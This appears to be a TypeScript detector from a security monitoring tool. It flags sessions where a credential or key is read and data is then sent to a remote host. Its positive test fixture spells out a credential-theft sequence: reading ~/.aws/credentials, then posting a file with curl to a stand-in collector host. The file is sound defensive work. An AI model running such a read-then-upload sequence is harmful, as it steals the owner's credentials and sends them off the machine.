import { READ_THEN_SEND_WINDOW_S } from '../../gate/index.js';
import { carriesData, describe, isEgress, isSensitiveRead, remoteHosts, uploads } from '../behaviour.js';
import { type Hit, NO_HITS, type StreamDetector } from '../detector.js';
import { lossNote } from '../mark-losses.js';
import type { Observation } from '../observation.js';

const thresholds = { window_s: READ_THEN_SEND_WINDOW_S } as const;

/** A credential or key read, then data leaving the machine, in one session (either order within the window). */
export const sensitiveReadThenEgress: StreamDetector = {
  id: 'seq.sensitive-read-egress',
  title: 'Sensitive read followed by egress',
  description:
    'The session read a credential, key or secret store and, within the window, sent data to or reached a remote host. ' +
    'This is the shape of credential theft: collect, then ship.',
  severity: 'critical',
  attack: ['T1552.001', 'T1041', 'T1048'],
  falsepositives: [
    'Deploy scripts that read a cloud credential and then call that cloud API',
    'Publishing a package with a token from ~/.npmrc',
    'An upload to a remote host in a session whose earlier reads the analyzer forgot (a flood, or a long session ' +
      'rebuilt after a restart): said so in the alert',
  ],
  triage:
    'Open both actions: is the remote host the owner of the credential (e.g. the cloud API) or an unrelated paste/upload service? Rotate the credential if in doubt.',
  thresholds,
  kind: 'sequence',
  fixtures: {
    positive: {
      session: [
        { kind: 'command', command: 'cat ~/.aws/credentials', t: 0 },
        { kind: 'command', command: 'curl -s -d @/tmp/out.txt https://collector.example.net/drop', t: 30 },
      ],
    },
    negative: {
      session: [
        { kind: 'command', command: 'cat README.md', t: 0 },
        { kind: 'command', command: 'curl -s https://api.github.com/repos/acme/app', t: 30 },
      ],
    },
  },
  observe(obs, s) {
    const windowMs = thresholds.window_s * 1000;
    if (isSensitiveRead(obs)) s.mark('sensitive-read', obs);
    // A plain fetch of a fixed URL (docs, a release file) takes nothing with it: not the "ship" half.
    const ships = isEgress(obs) && carriesData(obs);
    if (ships) s.mark('egress', obs);
    const reads = s.marksOf('sensitive-read');
    const egress = s.marksOf('egress');
    if (
      ships &&
      uploads(obs) &&
      !reads.some((r) => obs.timeMs >= r.timeMs && obs.timeMs - r.timeMs <= windowMs)
    ) {
      // No read is left in the window, but one may have been forgotten: an upload by itself is taken to follow it.
      const loss = s.lost.since('sensitive-read', obs.timeMs - windowMs);
      if (loss) return [forgottenRead(this.id, obs, lossNote(loss, 'a credential or key read before it'))];
    }
    if (reads.length === 0 || egress.length === 0) return NO_HITS;
    // Only pairs involving this observation: earlier ones were reported when they arrived.
    const pairs = isSensitiveRead(obs)
      ? egress
          .filter((e) => e.timeMs >= obs.timeMs && e.timeMs - obs.timeMs <= windowMs)
          .map((e) => [obs, e.obs] as const)
      : [];
    if (ships)
      for (const r of reads)
        if (obs.timeMs >= r.timeMs && obs.timeMs - r.timeMs <= windowMs) pairs.push([r.obs, obs] as const);
    return pairs.map(([read, out]) => ({
      detector: this.id,
      evidence: [read, out],
      factors: [
        {
          rule: this.id,
          value: Math.round((out.timeMs - read.timeMs) / 1000),
          text: `read ${describe(read)} then ${describe(out)}${remoteHosts(out).length ? ` to ${remoteHosts(out).join(', ')}` : ''} ${Math.round((out.timeMs - read.timeMs) / 1000)} s later`,
        },
      ],
    }));
  },
};

/** An upload whose read may have been forgotten (its only evidence is the upload). */
function forgottenRead(id: string, out: Observation, note: string): Hit {
  const hosts = remoteHosts(out);
  return {
    detector: id,
    evidence: [out],
    factors: [
      { rule: id, text: `${describe(out)}${hosts.length ? ` to ${hosts.join(', ')}` : ''}; ${note}` },
    ],
  };
}
